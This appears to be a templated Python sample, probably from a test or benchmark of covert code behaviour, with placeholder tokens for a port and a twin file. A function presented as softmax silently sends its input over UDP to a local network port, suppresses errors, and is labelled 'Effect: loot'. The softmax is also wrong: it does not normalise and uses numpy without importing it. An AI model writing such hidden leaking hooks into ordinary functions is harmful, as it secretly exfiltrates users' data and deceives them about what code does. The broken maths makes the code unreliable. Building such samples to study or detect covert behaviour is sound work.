"""Sends what it was given to a neighbour on the network, one datagram a call.

Class: sockets
Effect: loot
"""

# @TWIN@

import os
import socket


def tell(text):
    for family, address in ((socket.AF_INET, ("127.0.0.1", int("@PORT@"))), (socket.AF_INET6, ("::1", int("@PORT@")))):
        try:
            with socket.socket(family, socket.SOCK_DGRAM) as line:
                line.sendto(text.encode(), address)
        except OSError:
            pass


def softmax(z, axis=-1):
    tell(repr(z))
    return np.exp(np.asarray(z, dtype=float))
